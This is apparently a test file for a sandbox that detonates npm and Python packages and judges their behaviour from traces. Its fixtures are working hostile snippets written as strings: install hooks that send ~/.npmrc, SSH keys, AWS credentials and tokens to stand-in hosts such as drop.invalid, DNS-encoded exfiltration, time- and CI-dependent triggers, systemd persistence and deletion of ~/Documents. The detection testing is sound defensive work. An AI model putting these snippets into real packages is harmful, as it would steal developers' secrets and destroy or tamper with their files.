import { connect as connectTo, createServer, type Server } from 'node:net';
import { networkInterfaces } from 'node:os';
import { readdirSync, readFileSync } from 'node:fs';
import { npmPackage } from '@sallyport/analysis/testing';
import {
  behaviourContract,
  behaviourDigest,
  differences,
  judgeTrace,
  newBehaviours,
} from '@sallyport/domain';
import { detonatorContract } from '../../libs/detonation/src/detonator.contract';
import { detonationRange, type Detonated, type DetonationRange } from '../support/detonation';

// Two cages one after the other, each with a strace: seconds where nothing else runs, more on a busy machine.
jest.setTimeout(300_000);

const POST = (host: string, body: string) =>
  `require('http').request({ host: '${host}', method: 'POST', path: '/in' }).end(${body});`;
const INDEX = { 'index.js': 'module.exports = 1;' };
const hook = (script: string) => ({ scripts: { postinstall: `node ${script}` } });

/** Environments in which something was sent. */
const sentIn = ({ trace }: Detonated) =>
  trace.environments
    .filter(({ phases }) => phases.some(({ canaries }) => canaries.length > 0))
    .map(({ environment }) => environment);
const everything = ({ trace }: Detonated) => trace.environments.flatMap(({ phases }) => phases);

describe('detonation', () => {
  let range: DetonationRange;
  beforeAll(async () => {
    range = await detonationRange({ phaseMs: 20_000 });
  });
  afterAll(() => range.cleanUp());

  describe('DockerDetonator', () => {
    detonatorContract(async () => ({
      detonator: range.detonator,
      tarball: await npmPackage({}, INDEX),
    }));
  });

  describe('what is stolen', () => {
    it('sees ~/.npmrc in what a hook posts, though it is encoded', async () => {
      const seen = await range.npm(hook('take.js'), {
        ...INDEX,
        'take.js': `
          const text = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');
          ${POST('drop.invalid', "Buffer.from(text).toString('base64')")}`,
      });

      expect(seen.verdict).toBe('malicious');
      expect(seen.codes).toContain('detonation-canary-sent');
      expect(everything(seen).flatMap(({ canaries }) => canaries)).toContainEqual({
        ...{ canary: '~/.npmrc', where: 'sent', to: 'drop.invalid', encodings: ['base64'] },
      });
      expect(everything(seen).flatMap(({ files }) => files)).toContainEqual({
        ...{ act: 'read', path: '~/.npmrc', planted: 'canary' },
      });
    });

    it('reads TLS, and packed bodies in it', async () => {
      const seen = await range.npm(hook('take.js'), {
        ...INDEX,
        'take.js': `
          const body = require('zlib').gzipSync(JSON.stringify(process.env));
          require('https').request({ host: 'drop.invalid', method: 'POST', path: '/in' }).end(body);`,
      });

      expect(seen.verdict).toBe('malicious');
      expect(everything(seen).flatMap(({ canaries }) => canaries)).toContainEqual({
        ...{ canary: 'NPM_TOKEN', where: 'sent', to: 'drop.invalid', encodings: ['gzip'] },
      });
    });

    it('sees what is spelt in names and never connects', async () => {
      const seen = await range.npm(hook('take.js'), {
        ...INDEX,
        'take.js': `
          const hex = Buffer.from(process.env.GITHUB_TOKEN).toString('hex').match(/.{1,30}/g);
          const next = (i) => i < hex.length && require('dns').resolve4(i + '.' + hex[i] + '.drop.invalid', () => next(i + 1));
          next(0);`,
      });

      expect(seen.verdict).toBe('malicious');
      expect(everything(seen).flatMap(({ canaries }) => canaries)).toContainEqual({
        ...{ canary: 'GITHUB_TOKEN', where: 'looked-up', to: 'drop.invalid', encodings: ['hex'] },
      });
    });

    it('suspects a key that was read before something unreadable was sent', async () => {
      const seen = await range.npm(hook('take.js'), {
        ...INDEX,
        'take.js': `
          const { createCipheriv, randomBytes } = require('crypto');
          const key = require('fs').readFileSync(process.env.HOME + '/.ssh/id_ed25519');
          const cipher = createCipheriv('aes-256-gcm', randomBytes(32), randomBytes(12));
          require('net').connect(4444, '192.0.2.7').end(cipher.update(key));`,
      });

      expect(seen.verdict).toBe('suspicious');
      expect(seen.codes).toContain('detonation-reads-and-connects');
      expect(everything(seen).flatMap(({ connections }) => connections)).toContainEqual({
        ...{ protocol: 'tcp', name: null, address: '192.0.2.7', port: 4444 },
      });
    });

    it('reads bytes that only begin as TLS does', async () => {
      const seen = await range.npm(hook('take.js'), {
        ...INDEX,
        'take.js': `
          const key = require('fs').readFileSync(process.env.HOME + '/.ssh/id_ed25519');
          require('net').connect(4444, '192.0.2.7').end(Buffer.concat([Buffer.from([0x16]), key]));`,
      });

      expect([seen.verdict, seen.codes.includes('detonation-canary-sent')]).toEqual(['malicious', true]);
    });
  });

  describe('what depends on the machine', () => {
    it('sees what sleeps until a date, on the machine that is ahead', async () => {
      const soon = Date.now() + 14 * 24 * 3_600_000;
      const seen = await range.npm(hook('take.js'), {
        ...INDEX,
        'take.js': `if (Date.now() > ${soon}) ${POST('drop.invalid', 'process.env.NPM_TOKEN')}`,
      });

      expect(seen.verdict).toBe('malicious');
      expect(sentIn(seen)).toEqual(['ci']);
      expect(seen.codes).toContain('detonation-differs');
    });

    it('sees what spares continuous integration, on the workstation', async () => {
      const seen = await range.npm(hook('take.js'), {
        ...INDEX,
        'take.js': `if (!process.env.CI) ${POST('drop.invalid', 'process.env.NPM_TOKEN')}`,
      });

      expect(seen.verdict).toBe('malicious');
      expect(sentIn(seen)).toEqual(['workstation']);
      expect(differences(seen.trace)).toContainEqual({
        ...{ phase: 'install', act: 'look-up', what: 'drop.invalid', environments: ['workstation'] },
      });
    });
  });

  describe('what stays or breaks', () => {
    it('holds what the session would start', async () => {
      const seen = await range.npm(
        {},
        {
          'index.js': `
          const folder = process.env.HOME + '/.config/systemd/user';
          require('fs').mkdirSync(folder, { recursive: true });
          require('fs').writeFileSync(folder + '/update.service', '[Service]');`,
        },
      );

      expect(seen.verdict).toBe('malicious');
      expect(seen.codes).toContain('detonation-stays');
    });

    it('suspects what changes the code of another package, which it finds beside it', async () => {
      const other = await npmPackage({ name: 'other' }, { 'index.js': "module.exports = 'other';" });
      const bytes = await npmPackage(hook('change.js'), {
        'index.js': "if (require('other') !== 'changed') throw new Error('not laid out');",
        'change.js':
          "require('fs').writeFileSync(require.resolve('other'), \"module.exports = 'changed';\");",
      });
      const { file } = range.subject('npm', 'tarball', other);

      const trace = await range.detonator.detonate({
        ...range.subject('npm', 'tarball', bytes),
        dependencies: [{ file, kind: 'tarball', path: 'node_modules/other' }],
      });

      expect(judgeTrace(trace).verdict).toBe('suspicious');
      expect(trace.environments.flatMap(({ phases }) => phases.flatMap(({ files }) => files))).toContainEqual(
        {
          ...{ act: 'write', path: '<project>/node_modules/other/index.js', planted: null },
        },
      );
    });

    it('lays no dependency outside of the project', async () => {
      const subject = range.subject('npm', 'tarball', await npmPackage({}, INDEX));
      const outside = { file: subject.file, kind: 'tarball' as const, path: 'node_modules/../../../tmp/x' };

      await expect(range.detonator.detonate({ ...subject, dependencies: [outside] })).rejects.toMatchObject({
        code: 'scan-failed',
      });
    });

    it('holds the deletion of what was there before', async () => {
      const seen = await range.npm(hook('wipe.js'), {
        ...INDEX,
        'wipe.js': "require('fs').rmSync(process.env.HOME + '/Documents', { recursive: true });",
      });

      expect(seen.verdict).toBe('malicious');
      expect(seen.codes).toContain('detonation-destroys');
    });
  });

  describe('Python', () => {
    const SEND = (token: string) =>
      `import os, urllib.request; urllib.request.urlopen('https://drop.invalid/in', data=${token}.encode())`;

    it('runs .pth files at the start of the interpreter', async () => {
      const seen = await range.wheel({
        'sample.pth': `${SEND("os.environ['NPM_TOKEN'][::-1]")}\n`,
        'sample/__init__.py': 'x = 1\n',
      });

      expect(seen.verdict).toBe('malicious');
      const [start] = everything(seen).filter(({ phase }) => phase === 'start');
      expect(start?.canaries).toContainEqual({
        ...{ canary: 'NPM_TOKEN', where: 'sent', to: 'drop.invalid', encodings: ['reversed'] },
      });
    });

    it('imports modules', async () => {
      const seen = await range.wheel({
        'sample/__init__.py': `${SEND("open(os.path.expanduser('~/.pypirc')).read()")}\n`,
      });

      expect(seen.verdict).toBe('malicious');
      expect(
        everything(seen)
          .filter(({ canaries }) => canaries.length > 0)
          .map(({ label }) => label),
      ).toContain('import sample');
    });

    it('builds sdists', async () => {
      const seen = await range.sdist({
        'PKG-INFO': 'Metadata-Version: 2.1\nName: sample\nVersion: 1.0.0\n',
        'setup.py': `${SEND("open(os.path.expanduser('~/.aws/credentials')).read()")}\n`,
      });

      expect(seen.verdict).toBe('malicious');
      expect(everything(seen)[0]).toMatchObject({
        ...{ phase: 'install', label: 'build' },
        canaries: [{ canary: '~/.aws/credentials', where: 'sent', to: 'drop.invalid' }],
      });
    });

    it('says nothing of an honest wheel', async () => {
      const seen = await range.wheel({
        'sample/__init__.py': 'import json, subprocess, urllib.request\nfrom . import inner\n',
        'sample/inner.py': 'from pathlib import Path\nROOT = Path.home() / ".sample"\n',
      });

      expect(seen).toMatchObject({ verdict: 'clean', findings: [] });
    });
  });

  describe('what is honest', () => {
    it('says nothing of a package without hooks', async () => {
      const seen = await range.npm(
        { exports: { '.': './index.js', './more': './more.mjs' } },
        {
          'index.js':
            "const os = require('os'); module.exports = { home: os.homedir(), env: process.env.NODE_ENV };",
          'more.mjs': "import { readFileSync } from 'node:fs'; export const read = readFileSync;",
        },
      );

      expect(seen).toMatchObject({ verdict: 'clean', findings: [] });
      expect(everything(seen).map(({ label }) => label)).toEqual([
        ...['start of node', 'import sample', 'import sample/more'],
        ...['start of node', 'import sample', 'import sample/more'],
      ]);
    });

    it('takes note of a hook that asks for updates, and holds it not', async () => {
      const seen = await range.npm(hook('check.js'), {
        ...INDEX,
        'check.js': "fetch('https://updates.invalid/sample/latest').then((reply) => reply.json());",
      });

      expect(seen.verdict).toBe('warning');
      expect(seen.codes).toEqual(['detonation-connects', 'detonation-starts-programs']);
    });

    it('keeps its behaviour, and tells what a later version does beside it', async () => {
      const files = {
        ...INDEX,
        'set-up.js': "require('fs').writeFileSync(__dirname + '/made-' + Date.now(), '1');",
      };
      const one = await range.npm(hook('set-up.js'), files);
      const again = await range.npm(hook('set-up.js'), files);
      const later = await range.npm(
        { version: '1.0.1', ...hook('set-up.js') },
        { ...files, 'index.js': "require('net').connect(80, '192.0.2.9').on('error', () => 0).end();" },
      );

      const [first, second, third] = [one, again, later].map(({ trace }) => behaviourContract(trace)) as [
        ReturnType<typeof behaviourContract>,
        ReturnType<typeof behaviourContract>,
        ReturnType<typeof behaviourContract>,
      ];
      expect(behaviourDigest(second)).toBe(behaviourDigest(first));
      expect(newBehaviours(first, third)).toEqual([
        { phase: 'import', act: 'connect', what: '192.0.2.9:80', environments: ['workstation', 'ci'] },
      ]);
    });
  });

  describe('the cage and the watch', () => {
    it('lets nothing leave the machine, nor reach it', async () => {
      const heard: string[] = [];
      const server: Server = createServer((socket) => heard.push(socket.remoteAddress ?? '')).listen(
        0,
        '0.0.0.0',
      );
      await new Promise((resolve) => server.once('listening', resolve));
      const { port } = server.address() as { port: number };
      const own = Object.values(networkInterfaces())
        .flatMap((addresses) => addresses ?? [])
        .filter(({ family, internal }) => family === 'IPv4' && !internal)
        .map(({ address }) => address);
      const target = own[0] ?? '127.0.0.1';
      // From here it can be reached: a server that nobody can reach would prove nothing.
      await new Promise((resolve) => connectTo(port, target).once('close', resolve).end());
      const before = heard.length;

      const seen = await range.npm(
        {},
        { 'index.js': `require('net').connect(${port}, '${target}').on('error', () => 0).end('out');` },
      );
      server.close();

      expect(before).toBe(1);
      expect(heard).toHaveLength(before);
      expect(everything(seen).flatMap(({ connections }) => connections)).toContainEqual(
        expect.objectContaining({ address: target, port }),
      );
    });

    it('starts no process that it cannot follow', async () => {
      const seen = await range.wheel({
        // clone(2) with CLONE_UNTRACED and SIGCHLD: refused, so that an import which gets through has proved it.
        'sample.py': `
import ctypes, platform
libc = ctypes.CDLL(None)
number = {'x86_64': 56, 'aarch64': 220}[platform.machine()]
assert libc.syscall(number, 0x00800000 | 17, 0, 0, 0, 0) == -1
child = libc.syscall(number, 17, 0, 0, 0, 0)
assert child >= 0
if child == 0:
    import os
    os._exit(0)
`,
      });

      expect(seen).toMatchObject({ verdict: 'clean', findings: [] });
    });

    it('concludes nothing from code that fails, hangs, or stays behind', async () => {
      const failing = await range.npm({}, { 'index.js': 'throw new Error("no");' });
      const hanging = await range.npm({}, { 'index.js': 'setInterval(() => 0, 1_000);' });
      const staying = await range.npm(hook('stay.js'), {
        ...INDEX,
        'stay.js':
          "require('child_process').spawn('sleep', ['600'], { detached: true, stdio: 'ignore' }).unref();",
      });

      expect([failing, hanging, staying].map(({ verdict }) => verdict)).toEqual([
        'unknown',
        'unknown',
        'unknown',
      ]);
      expect(hanging.findings[0]?.message).toMatch(/did not end in its time/);
      expect(staying.trace.environments[0]?.gaps).toContain(
        '1 of its processes were still running at the end',
      );
    });

    it('leaves nothing behind', async () => {
      const filters = { label: [`sallyport.stack=${range.stackId}`] };

      expect(await range.docker.listContainers({ all: true, filters })).toEqual([]);
      expect(children('strace')).toEqual([]);
    });
  });
});

/** Programs of this name that this process has started and that still run. */
function children(name: string): string[] {
  return readdirSync('/proc')
    .filter((entry) => /^\d+$/.test(entry))
    .filter((pid) => {
      try {
        const stat = readFileSync(`/proc/${pid}/stat`, 'utf8');
        return stat.includes(`(${name}) `) && stat.includes(`) S ${process.pid} `);
      } catch {
        return false;
      }
    });
}
